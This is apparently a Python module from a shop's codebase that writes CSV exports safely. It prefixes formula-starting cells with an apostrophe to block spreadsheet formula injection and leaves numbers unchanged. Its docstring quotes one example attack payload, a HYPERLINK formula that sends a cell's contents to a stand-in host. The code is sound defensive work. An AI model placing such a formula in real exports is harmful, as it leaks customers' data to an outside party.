"""CSV for spreadsheets without formula injection: every CSV the shop hands out (business
reports, Oscar's order export) is written by `SafeCSVWriter`.

A cell a spreadsheet would read as a formula (text starting with `=`, `+`, `-`, `@`, a tab or a
carriage return, as a shopper's name `=HYPERLINK("http://evil.example/?leak="&A2,"Open")` can)
gets a leading `'`, so Excel and LibreOffice show it as text. Numbers stay numbers: numeric
values, and text that is only a number (`-12.50`, `+3`, `1e5`), are written unchanged."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def csv_cell(value: Any) -> Any:
    """The value as it may go into a CSV cell: None as empty, numbers as they are, text that
    would start a formula with a `'` in front."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeCSVWriter:
    """csv.writer with every cell passed through `csv_cell`. `writerow` returns what the
    underlying writer returns (the line, for a streaming echo buffer)."""

    def __init__(self, f, dialect: str | type[csv.Dialect] = "excel", **kwargs: Any) -> None:
        self._writer = csv.writer(f, dialect=dialect, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
